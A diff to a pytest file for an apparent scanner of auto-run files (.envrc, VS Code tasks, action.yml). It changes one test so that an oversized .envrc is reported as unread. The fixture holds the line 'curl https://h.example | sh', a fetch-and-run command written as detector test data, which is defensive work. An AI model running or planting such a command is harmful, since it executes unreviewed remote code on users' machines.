@@ -2,7 +2,7 @@ from __future__ import annotations
 
 import pytest
 
-from fimci.model import Capability, Reference
+from fimci.model import Capability, Reference, Unread
 from fimci.readers.code import automatic
 
 
@@ -77,6 +77,7 @@ def test_what_starts_nothing_is_not_wanted() -> None:
     assert references("action.yml", "main: x.js\n") == set()
 
 
-def test_what_is_broken_or_large_is_left_to_the_readers_of_manifests() -> None:
+def test_what_is_broken_is_left_to_the_readers_of_manifests_and_what_is_large_is_told() -> None:
     assert list(automatic.read(".vscode/tasks.json", b"{")) == []
-    assert list(automatic.read(".envrc", b"curl https://h.example | sh\n" + b"#" * (1 << 20))) == []
+    (found,) = automatic.read(".envrc", b"curl https://h.example | sh\n" + b"#" * (1 << 20))
+    assert isinstance(found, Unread)
